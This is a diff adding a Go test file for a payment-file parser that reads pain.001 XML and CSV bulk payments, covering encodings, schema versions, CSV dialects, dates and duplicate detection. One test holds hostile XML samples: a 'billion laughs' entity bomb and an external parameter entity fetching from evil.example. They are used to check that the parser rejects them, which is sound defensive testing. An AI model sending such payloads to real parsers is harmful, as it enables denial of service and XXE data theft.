@@ -1,0 +1,343 @@
+package finance
+
+import (
+	"strings"
+	"testing"
+
+	"golang.org/x/text/encoding"
+	"golang.org/x/text/encoding/charmap"
+	"golang.org/x/text/encoding/unicode"
+
+	"florin/internal/money"
+	"florin/internal/openbanking"
+)
+
+// encoded writes a text in another alphabet.
+func encoded(t *testing.T, alphabet encoding.Encoding, text string) string {
+	t.Helper()
+	file, err := alphabet.NewEncoder().String(text)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return file
+}
+
+// A file is read in the alphabet that it is written in, or it is said what to do.
+func TestDecodeBulk(t *testing.T) {
+	body := pain("", "<PmtInf>"+transferXML("Müller & Söhne", german, "5")+"</PmtInf>")
+	body = strings.Replace(body, " & ", " &amp; ", 1)
+	declaring := func(label string) string { return strings.Replace(body, "UTF-8", label, 1) }
+	csv := "Name;IBAN;Betrag\nMüller & Söhne;" + german + ";5\n"
+	utf16 := func(e unicode.Endianness, b unicode.BOMPolicy) encoding.Encoding { return unicode.UTF16(e, b) }
+	for _, c := range []struct {
+		name, file string
+		guessed    bool
+	}{
+		{"UTF-8", body, false},
+		{"UTF-8 with a mark", "\ufeff" + body, false},
+		{"UTF-8 with a mark that declares another", "\ufeff" + declaring("ISO-8859-1"), false},
+		{"ISO 8859-1", encoded(t, charmap.ISO8859_1, declaring("ISO-8859-1")), false},
+		{"ISO 8859-1 in small letters and single quotes", encoded(t, charmap.ISO8859_1, strings.Replace(declaring("iso-8859-1"), `"iso-8859-1"`, "'iso-8859-1'", 1)), false},
+		{"ISO 8859-15", encoded(t, charmap.ISO8859_15, declaring("ISO-8859-15")), false},
+		{"ISO 8859-2", encoded(t, charmap.ISO8859_2, declaring("ISO-8859-2")), false},
+		{"windows-1252", encoded(t, charmap.Windows1252, declaring("windows-1252")), false},
+		{"windows-1250", encoded(t, charmap.Windows1250, declaring("Windows-1250")), false},
+		{"UTF-16, little end first", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), declaring("UTF-16")), false},
+		{"UTF-16, big end first", encoded(t, utf16(unicode.BigEndian, unicode.UseBOM), declaring("UTF-16")), false},
+		{"UTF-16 without its mark", encoded(t, utf16(unicode.LittleEndian, unicode.IgnoreBOM), declaring("UTF-16")), false},
+		{"UTF-16, big end first, without its mark", encoded(t, utf16(unicode.BigEndian, unicode.IgnoreBOM), declaring("UTF-16")), false},
+		{"declares UTF-16 and is UTF-8", declaring("utf-16"), false},
+		{"no declaration", strings.TrimPrefix(body, `<?xml version="1.0" encoding="UTF-8"?>`), false},
+		{"CSV in UTF-8", csv, false},
+		{"CSV in UTF-8 with a mark", "\ufeff" + csv, false},
+		{"CSV in windows-1252", encoded(t, charmap.Windows1252, csv), true},
+		{"CSV in UTF-16, as spreadsheets call Unicode", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), strings.ReplaceAll(csv, ";", "\t")), false},
+	} {
+		text, guessed, err := DecodeBulk([]byte(c.file))
+		if err != nil || guessed != c.guessed {
+			t.Errorf("%s: guessed %v, %v", c.name, guessed, err)
+			continue
+		}
+		b, err := ParseBulk(text, "EUR")
+		if err != nil || !b.Good() || len(b.Rows) != 1 || *b.Rows[0].Transfer.Beneficiary.Creditor.Name != "Müller & Söhne" {
+			t.Errorf("%s: %+v, %v", c.name, b, err)
+		}
+		if again, err := ParseBulk(text, "EUR"); err != nil || again.Rows[0].Amount != b.Rows[0].Amount {
+			t.Errorf("%s: the text of the page is read otherwise: %v", c.name, err)
+		}
+	}
+	euro, _, err := DecodeBulk([]byte(encoded(t, charmap.Windows1252, declaring("ISO-8859-1")+"€")))
+	if err != nil || !strings.HasSuffix(euro, "€") {
+		t.Errorf("what calls itself ISO 8859-1 and is windows-1252: %v", err)
+	}
+	for _, c := range []struct{ name, file, words string }{
+		{"an alphabet that is not read", declaring("Shift_JIS"), "written in shift_jis, which Florin does not read. Save or export it once more in UTF-8"},
+		{"declares UTF-8 and is none", strings.Replace(body, "Müller", "M\n\xfcller", 1), "not written in UTF-8: look at line 2"},
+		{"a marked file that is none", "\ufeffname\n\xff", "not written in UTF-8: look at line 2"},
+		{"UTF-32", "\xff\xfe\x00\x00<\x00\x00\x00", "UTF-32"},
+		{"UTF-16 that ends in the middle", encoded(t, utf16(unicode.LittleEndian, unicode.UseBOM), "name") + "\x00", "cannot be read as UTF-16"},
+		{"a workbook", "PK\x03\x04....", "CSV UTF-8"},
+		{"an old workbook", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "CSV UTF-8"},
+		{"a PDF", "%PDF-1.7", "Export the payments as CSV or pain.001"},
+		{"compressed", "\x1f\x8b\x08", "Unpack it"},
+		{"a picture", "\x89PNG\r\n", "a picture"},
+		{"a program", "MZ\x90\x00\x03", "no text"},
+		{"nothing of windows-1252", "name;iban\n\x81", "line 2 has a character"},
+		{"too large", strings.Repeat("x", MaxBulkBytes+1), "larger than 1024 KiB. Split it"},
+	} {
+		if _, _, err := DecodeBulk([]byte(c.file)); err == nil || !strings.Contains(err.Error(), c.words) {
+			t.Errorf("%s: %v", c.name, err)
+		}
+	}
+}
+
+// Every version of pain.001 that is in use is read, with the names that banks of a country give it.
+func TestPain001Versions(t *testing.T) {
+	file := pain("", `<PmtInf><ReqdExctnDt>2026-12-24</ReqdExctnDt>`+transferXML("A", german, "5")+`</PmtInf>`)
+	const space = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"
+	old := strings.Replace(file, "BICFI", "BIC", 2)
+	later := func(date string) string { return strings.Replace(file, ">2026-12-24<", ">"+date+"<", 1) }
+	for _, c := range []struct{ file, space string }{
+		{old, "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"}, {old, "urn:iso:std:iso:20022:tech:xsd:pain.001.002.03"}, {old, "urn:iso:std:iso:20022:tech:xsd:pain.001.003.03"},
+		{old, "http://www.six-interbank-clearing.com/de/pain.001.001.03.ch.02.xsd"}, {later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.08"},
+		{later("<Dt>2026-12-24</Dt>"), space}, {later("<DtTm>2026-12-24T09:00:00+01:00</DtTm>"), space}, {later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.11"},
+		{later("<Dt>2026-12-24</Dt>"), "urn:iso:std:iso:20022:tech:xsd:pain.001.001.12"},
+	} {
+		b, err := readBulk(strings.Replace(c.file, space, c.space, 1))
+		if err != nil || !b.Good() || *b.Rows[0].Transfer.RequestedExecutionDate != "2026-12-24" || *b.Rows[0].Transfer.Beneficiary.CreditorAgent.BICFI != "BHBLDEHHXXX" || len(b.Notes) != 0 {
+			t.Errorf("%s: %+v, %v", c.space, b, err)
+		}
+	}
+	if b, err := readBulk(strings.Replace(file, ` xmlns="`+space+`"`, "", 1)); err != nil || !b.Good() {
+		t.Errorf("without a namespace: %v", err)
+	}
+	prefixed := strings.NewReplacer("<Document xmlns=", "<p:Document xmlns:p=", "</Document>", "</p:Document>").Replace(file)
+	prefixed = strings.NewReplacer("<CstmrCdtTrfInitn", "<p:CstmrCdtTrfInitn", "</CstmrCdtTrfInitn", "</p:CstmrCdtTrfInitn").Replace(prefixed)
+	if b, err := readBulk(prefixed); err != nil || !b.Good() {
+		t.Errorf("with a prefix: %v", err)
+	}
+	for _, c := range []struct{ space, words string }{
+		{"urn:iso:std:iso:20022:tech:xsd:pain.008.001.02", "direct debit"}, {"urn:iso:std:iso:20022:tech:xsd:pain.002.001.03", "answer of a bank"},
+		{"urn:iso:std:iso:20022:tech:xsd:camt.053.001.08", "statement"}, {"urn:iso:std:iso:20022:tech:xsd:pain.001.001.02", "too old"}, {"urn:example", "no pain.001"},
+	} {
+		if _, err := readBulk(strings.Replace(file, space, c.space, 1)); err == nil || !strings.Contains(err.Error(), c.words) {
+			t.Errorf("%s: %v", c.space, err)
+		}
+	}
+}
+
+// What a pain.001 asks for beside its transfers is taken over, refused, or said to be left out; nothing is dropped in silence.
+func TestPain001SaysWhatBecomesOfIt(t *testing.T) {
+	group := func(head, transfers string) string { return "<PmtInf>" + head + transfers + "</PmtInf>" }
+	one := transferXML("A", german, "5")
+	in := func(transfer, element string) string {
+		return strings.Replace(transfer, "</CdtTrfTxInf>", element+"</CdtTrfTxInf>", 1)
+	}
+	for _, c := range []struct {
+		name, body      string
+		problems, notes string
+	}{
+		{"nothing", group("", one), "", ""},
+		{"two groups", group("", one) + group("", one), "", "2 groups of payments (PmtInf). They become one bulk"},
+		{"batch booking", group("<BtchBookg>false</BtchBookg>", one), "", "your bank books them as it always does"},
+		{"a cheque", group("<PmtMtd>CHK</PmtMtd>", one), "pays by “CHK”", ""},
+		{"a transfer", group("<PmtMtd>TRF</PmtMtd>", one), "", ""},
+		{"two payers", group("<DbtrAcct><Id><IBAN>"+finn+"</IBAN></Id></DbtrAcct>", one) + group("<DbtrAcct><Id><IBAN>"+german+"</IBAN></Id></DbtrAcct>", one), "pays from more than one account", "2 groups"},
+		{"instant", group("<PmtTpInf><LclInstrm><Cd>INST</Cd></LclInstrm></PmtTpInf>", one), "asks for instant payments", ""},
+		{"charges differ", group("<ChrgBr>SLEV</ChrgBr>", one) + group("<ChrgBr>DEBT</ChrgBr>", one), "differ in who bears the charges", "2 groups"},
+		{"charges of some", group("<ChrgBr>SLEV</ChrgBr>", one) + group("", one), "differ in who bears the charges", "2 groups"},
+		{"charges that are none", group("<ChrgBr>X</ChrgBr>", one), "“X” of who bears the charges", ""},
+		{"priority that is none", group("<PmtTpInf><InstrPrty>LOW</InstrPrty></PmtTpInf>", one), "priority “LOW”", ""},
+		{"priorities differ", group("<PmtTpInf><InstrPrty>HIGH</InstrPrty></PmtTpInf>", one) + group("", one), "different priority", "2 groups"},
+		{"count of a group", group("<PmtInfId>G1</PmtInfId><NbOfTxs>3</NbOfTxs>", one), "The group 1 (G1) says that it holds 3 payments (NbOfTxs); it holds 1.", ""},
+		{"sum of a group", group("<CtrlSum>5.01</CtrlSum>", one), "The group 1 says that its payments make 5.01 (CtrlSum); they make 5.00.", ""},
+		{"count of the file", "<GrpHdr><NbOfTxs>x</NbOfTxs></GrpHdr>" + group("", one), "The file says that it holds x payments", ""},
+		{"sum of the file", "<GrpHdr><CtrlSum>5,00</CtrlSum></GrpHdr>" + group("", one), "The file says that its payments make 5,00", ""},
+		{"a sum in two currencies", "<GrpHdr><CtrlSum>10</CtrlSum></GrpHdr>" + group("", one+strings.Replace(one, "EUR", "SEK", 1)), "", ""},
+		{"what is not sent", group("", in(one, "<UltmtCdtr><Nm>C</Nm></UltmtCdtr><Purp><Cd>SALA</Cd></Purp><Odd><Nm>x</Nm></Odd>")), "", "left out: Odd, a purpose (Purp), another final payee (UltmtCdtr)."},
+		{"a long list", group("", in(one, "<A/><B/><C/><D/><E/><F/><G/><H/><I/><J/>")), "", "left out: A, B, C, D, E, F, G, H, and more."},
+		{"texts of its parties", group("<Dbtr><Nm>M</Nm><PstlAdr><Ctry>DE</Ctry></PstlAdr></Dbtr>", one), "", ""},
+	} {
+		b, err := readBulk(pain("", c.body))
+		if err != nil {
+			t.Errorf("%s: %v", c.name, err)
+			continue
+		}
+		for _, side := range []struct {
+			what, want string
+			got        []string
+		}{{"problem", c.problems, b.Problems}, {"note", c.notes, b.Notes}} {
+			if got := strings.Join(side.got, " "); !strings.Contains(got, side.want) || side.want == "" && got != "" || side.want != "" && len(side.got) != 1 {
+				t.Errorf("%s: %s %q, want %q", c.name, side.what, got, side.want)
+			}
+		}
+	}
+	b, err := readBulk(pain("", group("<ChrgBr>SLEV</ChrgBr><PmtTpInf><InstrPrty>HIGH</InstrPrty></PmtTpInf>", strings.NewReplacer(
+		"<Ustrd>Invoice &lt;7&gt;</Ustrd>", "<Strd><CdtrRefInf><Ref>RF18539007547034</Ref></CdtrRefInf><AddtlRmtInf>More</AddtlRmtInf></Strd>",
+		"<Nm>A</Nm>", "<Nm>A</Nm><PstlAdr><Ctry>DE</Ctry><AdrLine>Road 1</AdrLine><AdrLine>12345 Town</AdrLine></PstlAdr>",
+		"<IBAN>"+german+"</IBAN>", "<Othr><Id>5805-6201</Id><SchmeNm><Prtry>BGNR</Prtry></SchmeNm></Othr>").Replace(one))))
+	if err != nil || !b.Good() {
+		t.Fatalf("%+v, %v", b, err)
+	}
+	first := b.Rows[0].Transfer
+	if b.Charges != "SLEV" || b.Priority != "HIGH" || *first.ReferenceNumber != "RF18539007547034" || first.RemittanceInformation[0] != "More" || first.Beneficiary.CreditorAccount.SchemeName != openbanking.SchemeNameBGNR ||
+		first.Beneficiary.CreditorAccount.Identification != "5805-6201" || *first.Beneficiary.Creditor.PostalAddress.Country != "DE" || len(first.Beneficiary.Creditor.PostalAddress.AddressLine) != 2 {
+		t.Errorf("%+v", b)
+	}
+	two, err := readBulk(pain("", group("", strings.Replace(one, "<Ustrd>Invoice &lt;7&gt;</Ustrd>", strings.Repeat("<Strd><CdtrRefInf><Ref>RF18539007547034</Ref></CdtrRefInf></Strd>", 2), 1))))
+	if err != nil || rows(two) != "1 A "+german+" 5.00 !reference" {
+		t.Errorf("%v %s", err, rows(two))
+	}
+}
+
+// XML that means harm, or is broken, is refused before any of it is believed.
+func TestPain001RefusesHarm(t *testing.T) {
+	one := "<PmtInf>" + transferXML("A", german, "5") + "</PmtInf>"
+	laughs := `<!DOCTYPE lolz [<!ENTITY a "ha">` + strings.Repeat(`<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">`, 9) + `]>`
+	for name, c := range map[string]struct{ file, words string }{
+		"a billion laughs":         {pain(laughs, one), "Take that line out"},
+		"a parameter entity":       {pain(`<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]>`, one), "document type"},
+		"a document type within":   {pain("", `<!DOCTYPE x>`+one), "document type"},
+		"an element within":        {pain("", `<!ELEMENT x ANY>`+one), "document type"},
+		"nested":                   {pain("", strings.Repeat("<a>", 200000)), "nested too deeply"},
+		"cut off":                  {strings.TrimSuffix(pain("", one), "</Document>"), "look at line 1. It may be cut off"},
+		"an end without a start":   {pain("", one) + "</Document>", "well-formed"},
+		"crossed":                  {pain("", "<a><b></a></b>"), "well-formed"},
+		"not closed":               {"<Document", "well-formed"},
+		"an attribute without end": {`<Document x="` + strings.Repeat("y", 1000), "well-formed"},
+		"control characters":       {pain("", strings.Replace(one, "<Nm>A", "<Nm>\x01", 1)), "well-formed"},
+		"two documents":            {pain("", one) + strings.TrimPrefix(pain("", one), `<?xml version="1.0" encoding="UTF-8"?>`), ""},
+		"nothing":                  {"<", "well-formed"},
+		"a comment":                {"<!-- -->", "no pain.001"},
+	} {
+		b, err := readBulk(c.file)
+		if c.words == "" {
+			if err != nil || len(b.Rows) != 1 {
+				t.Errorf("%s: %d rows, %v", name, len(b.Rows), err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), c.words) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+// CSV is read as spreadsheets and bookkeeping programs write it, in English and German.
+func TestBulkCSVForms(t *testing.T) {
+	for _, c := range []struct{ name, file string }{
+		{"commas", "name,iban,amount\nA,@,\"12,50\"\n"},
+		{"commas and a dot", "name,iban,amount\nA,@,12.50\n"},
+		{"semicolons", "name;iban;amount\nA;@;12,50\n"},
+		{"tabs, as pasted from a spreadsheet", "name\tiban\tamount\nA\t@\t12,50\n"},
+		{"a tab before an empty field", "bic\tname\tiban\tamount\n\tA\t@\t12,50\n"},
+		{"old ends of lines", "name;iban;amount\r\nA;@;12,50\r\n"},
+		{"no end of the last line", "name;iban;amount\nA;@;12,50"},
+		{"German", "Empfänger;IBAN Empfänger;Betrag;Währung;Verwendungszweck;Ausführungsdatum\nA;@;12,50;EUR;;\n"},
+		{"German without its letters", "Empfaenger;Kontonummer;Betrag;Waehrung\nA;@;12,50;EUR\n"},
+		{"decomposed letters", "Empfa\u0308nger;IBAN;Betrag\nA;@;12,50\n"},
+		{"other words", "Payee name;Account number;Amount;Payment reference\nA;@;12,50;\n"},
+		{"signs in the names", " *Creditor_Name* ;Creditor-IBAN:;AMOUNT\nA;@;12,50\n"},
+		{"quoted names", "\"Name\";\"IBAN\";\"Amount\"\n\"A\";\"@\";\"12,50\"\n"},
+		{"empty lines", "\n\n;;\nname;iban;amount\n\n;;\nA;@;12,50\n;;\n\n"},
+		{"the separator told", "sep=;\nname;iban;amount\nA;@;12,50\n"},
+		{"the separator told, against the look", "sep=;\r\nname, of whom;name;iban;amount\r\n;A;@;12,50\r\n"},
+		{"money with its sign", "name;iban;amount\nA;@;12,50 €\n"},
+		{"money with its code", "name;iban;amount\nA;@;EUR 12.50\n"},
+		{"spaces that do not break", "name;iban;amount\n\u00a0A\u00a0;@;\u00a012,50\n"},
+	} {
+		b, err := readBulk(strings.Replace(c.file, "@", german, 1))
+		if err != nil || len(b.Rows) != 1 || !b.Good() || b.Rows[0].Amount != money.FromMinor(1250, "EUR") || *b.Rows[0].Transfer.Beneficiary.Creditor.Name != "A" {
+			t.Errorf("%s: %+v, %v", c.name, b, err)
+		}
+	}
+	for _, c := range []struct{ name, file, words string }{
+		{"no header", "ACME;" + german + ";12,50\n", "the first line is a payment and must name the columns instead: put a line above it, such as name;iban;amount;text"},
+		{"another header", "a;b;c\n", "name is missing"},
+		{"the header alone", "\n\nname;iban;amount\n\n", "no line below"},
+		{"a column twice", "name;Empfänger;iban;amount\n", "two columns are called name: “name” and “Empfänger”. Rename"},
+		{"a quotation mark", "\nname;iban;amount\nA;DE;1\nB \"the\" C;DE;1\n", "line 4 cannot be read: its quotation marks do not fit"},
+		{"a quotation that never ends", "name;iban;amount\n\"A;DE;1\nB;DE;1\n", "line 2 cannot be read"},
+	} {
+		if _, err := readBulk(c.file); err == nil || !strings.Contains(err.Error(), c.words) {
+			t.Errorf("%s: %v", c.name, err)
+		}
+	}
+	b, err := readBulk("sep=,\n\nname,iban,amount,colour,text,text 2\nACME," + german + ",12,50,red,x,y\nB," + german + ",1,red\n\"C\nD\"," + german + ",1,,\"one\",two\nE\ufffd," + german + ",,,,\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := rows(b); got != "4 ACME "+german+" 12.00 !\n5 B "+german+" 1.00 !\n6 C D "+german+" 1.00\n8 E\ufffd "+german+" 0.00 !name !amount" {
+		t.Error(got)
+	}
+	if b.Notes[0] != "The column “colour” is none that Florin knows, and is left out." || strings.Join(b.Rows[2].Transfer.RemittanceInformation, "|") != "one|two" {
+		t.Errorf("%q %q", b.Notes, b.Rows[2].Transfer.RemittanceInformation)
+	}
+	for i, want := range []string{"The line has 7 columns; the first line has 6. A field that has the sign between the columns in it stands between quotation marks, as in \"12,50\"; or write 12.50.",
+		"The line has 4 columns; the first line has 6. Add the signs between the columns, also where a field is empty."} {
+		if got := b.Rows[i].Faults[0].Problem; got != want {
+			t.Errorf("%s", got)
+		}
+	}
+}
+
+func TestParseDay(t *testing.T) {
+	for text, want := range map[string]string{
+		"2026-12-31": "2026-12-31", " 2026-12-31 ": "2026-12-31", "2026-1-5": "2026-01-05", "31.12.2026": "2026-12-31", "1. 2. 2026": "2026-02-01", "2028-02-29": "2028-02-29", "2026-12-31 00:00:00": "2026-12-31",
+		"2027-02-29": "!2027 is no leap year: February has 28 days", "29.02.2027": "!2027 is no leap year", "2026-02-30": "!there is no day 2026-02-30 in the calendar", "2026-13-01": "!there is no day",
+		"31/12/2026": "!not of the form", "12/31/2026": "!not of the form", "": "!not of the form", "tomorrow": "!not of the form", "0000-00-00": "!there is no day", "２０２６-12-31": "!not of the form", "31.12.26": "!not of the form",
+	} {
+		day, err := ParseDay(text)
+		if words, bad := strings.CutPrefix(want, "!"); bad {
+			if err == nil || !strings.Contains(err.Error(), words) {
+				t.Errorf("%q: %s, %v", text, day, err)
+			}
+		} else if err != nil || string(day) != want {
+			t.Errorf("%q: %s, %v", text, day, err)
+		}
+	}
+}
+
+func FuzzParseDay(f *testing.F) {
+	f.Add("31.12.2026")
+	f.Add("2026-12-31")
+	f.Fuzz(func(t *testing.T, text string) {
+		day, err := ParseDay(text)
+		if err != nil {
+			return
+		}
+		if _, err := day.Time(); err != nil {
+			t.Fatalf("%q is %s, which is no day", text, day)
+		}
+	})
+}
+
+// Rows that pay the same amount to the same account are found, however they are written.
+func TestEqualRows(t *testing.T) {
+	b, err := readBulk("name;iban;amount;text;currency\nACME;" + german + ";12,50;Invoice 1;EUR\nB;" + finn + ";5;;\nacme;de89 3704 0044 0532 0130 00;12.50;invoice  1;\nACME;" + german + ";12,50;;SEK\nB;" + finn + ";5,00;Other;\n;" + german + ";12,50;Invoice 1;\nACME;" +
+		german + ";12,50;Invoice 1;\nACME;" + german + ";12,51;Invoice 1;\n")
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := b.Equal()
+	if len(all) != 2 || len(all[0].Rows) != 3 || all[0].Rows[1] != 2 || all[0].Rows[2] != 6 || !all[0].Whole || all[0].Payee != "ACME" || all[0].Amount.String() != "12.50" ||
+		len(all[1].Rows) != 2 || all[1].Whole || all[1].To.Number != finn {
+		t.Errorf("%+v", all)
+	}
+	fewer := all[0]
+	fewer.Rows = fewer.Rows[:2]
+	if all[0].Key() == fewer.Key() || all[0].Key() == all[1].Key() {
+		t.Error("agreeing to some equal rows is agreeing to others")
+	}
+}
+
+// What people type is sent as they meant it: with plain spaces and whole letters, and nothing taken out.
+func TestTyped(t *testing.T) {
+	for text, want := range map[string]string{
+		" ACME\u00a0GmbH\t& \u202fCo\r\n": "ACME GmbH & Co", "e\u0301": "é", "a\u200bb": "a\u200bb", "\u202eabc": "\u202eabc", "💶": "💶", "": "", "Å": "Å",
+	} {
+		if got := Typed(text); got != want {
+			t.Errorf("%q: %q, want %q", text, got, want)
+		}
+	}
+}
